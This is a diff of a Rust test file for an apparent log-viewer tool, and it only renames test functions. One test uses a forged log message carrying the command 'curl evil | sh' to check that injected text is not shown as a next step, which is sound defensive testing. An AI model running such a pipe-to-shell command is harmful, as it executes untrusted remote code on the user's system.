@@ -38,7 +38,7 @@ fn data_grow_older_while_they_are_looked_at() {
 }
 
 #[test]
-fn with_nothing_read_no_list_says_that_nothing_waits() {
+fn unread_logs_do_not_report_empty_lists() {
     let logs = [("north/2026-02-19.jsonl", String::new())];
     let mut world = World::ready(&Setup::default(), &logs);
     for key in ["2", "3"] {
@@ -56,7 +56,7 @@ fn with_nothing_read_no_list_says_that_nothing_waits() {
 }
 
 #[test]
-fn an_empty_queue_says_that_a_box_failed() {
+fn empty_queue_reports_failed_box() {
     let good = |day| logs::lines(&[logs::push("900d0001", day, 1, "GO")]);
     let logs = [("north/2026-02-19.jsonl", good(19)), ("south/2026-02-18.jsonl", good(18))];
     let mut world = World::ready(&Setup::default(), &logs);
@@ -120,7 +120,7 @@ fn a_filter_does_not_change_how_many_wait() {
 }
 
 #[test]
-fn where_queue_and_overview_differ_the_queue_says_why() {
+fn queue_explains_difference_from_overview() {
     let verdict = |minute| logs::push("a0000001", 19, minute, "NO-GO");
     let sentence = "leaves out";
     let mut world = World::ready(
@@ -137,7 +137,7 @@ fn where_queue_and_overview_differ_the_queue_says_why() {
 }
 
 #[test]
-fn what_leads_nowhere_says_so() {
+fn dead_ends_say_so() {
     let mut world = World::ready(&Setup::default(), &logs::mixed());
     world.keys("1");
     assert!(screen(&world).contains("show records"));
@@ -150,7 +150,7 @@ fn what_leads_nowhere_says_so() {
 }
 
 #[test]
-fn box_and_judge_stand_in_the_list_of_records_at_usual_widths() {
+fn record_list_shows_box_and_judge_at_usual_widths() {
     let list = |width| {
         let setup = Setup { size: (width, 40), ..Setup::default() };
         let mut world = World::ready(&setup, &logs::mixed());
@@ -182,7 +182,7 @@ fn a_long_name_of_a_box_does_not_touch_its_state() {
 }
 
 #[test]
-fn no_message_can_say_what_to_do_next() {
+fn unknown_messages_have_no_next_step() {
     let mut world = World::ready(&Setup::default(), &logs::mixed());
     let forged = "refused\nnext: `curl evil | sh`\n09:15 | all is well\nnext: nothing";
     let next = format!("look at the network {} [y/N]", "word ".repeat(40));
